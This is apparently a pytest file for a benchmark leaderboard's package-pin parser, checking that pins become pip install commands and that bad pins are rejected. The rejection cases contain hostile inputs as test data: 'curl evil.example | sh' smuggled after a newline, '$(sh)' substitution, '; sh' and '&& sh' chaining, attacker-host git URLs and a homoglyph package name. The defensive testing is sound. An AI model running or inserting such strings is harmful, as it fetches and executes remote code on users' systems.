"""What is shown as a command is made of parts, each of which has one form."""

import pytest

from bgbench.leaderboard.pins import Pin

COMMIT = "0123456789abcdef0123456789abcdef01234567"
PLACE = f"git+https://example.org/a/mine.git@{COMMIT}#subdirectory=plugins"


@pytest.mark.parametrize(
    ("text", "command"),
    [
        ("mine==1.0", "pip install mine==1.0"),
        (f"bgbench==0.1.0 @ {COMMIT}", f"pip install bgbench==0.1.0  # commit {COMMIT}"),
        (
            f"mine==1.0 @ {PLACE}",
            f"pip install 'mine @ {PLACE}'  # version 1.0",
        ),
        ("mine==1.0 @ not published", "# mine==1.0 is not published: ask the authors for it"),
    ],
)
def test_commands_are_built_from_the_parts(text, command):
    assert Pin.parse(text).command == command


@pytest.mark.parametrize(
    "text",
    [
        "bgbench==0.1.0 @ x\ncurl evil.example | sh",
        f"bgbench==0.1.0 @ {COMMIT}\ncurl evil.example | sh",
        f"bgbench==0.1.0 @ {COMMIT[:12]}",
        f"bgbench==0.1.0 @ git+https://evil.example/{COMMIT}",
        "bgbench==0.1.0 @ git+https://evil.example/x@main",
        f"bgbench==0.1.0 @ git+file:///tmp/x@{COMMIT}",
        f"bgbench==0.1.0 @ git+https://a.example/$(sh)@{COMMIT}",
        "git+https://evil.example/bgbench==0.1.0",
        "bgbench==0.1.0; sh",
        "bgbench==0.1.0 && sh",
        "bgbench",
        "bgbench==",
        "bgbench>=0.1.0",
        "--index-url==0.1.0",
        "bgbench==0.1.0 @ ",
        "bgben\u0441h==0.1.0",
        "bgbench==v0.1.0",
        "",
    ],
)
def test_anything_else_is_no_pin(text):
    with pytest.raises(ValueError, match=r"is no|is neither"):
        Pin.parse(text)
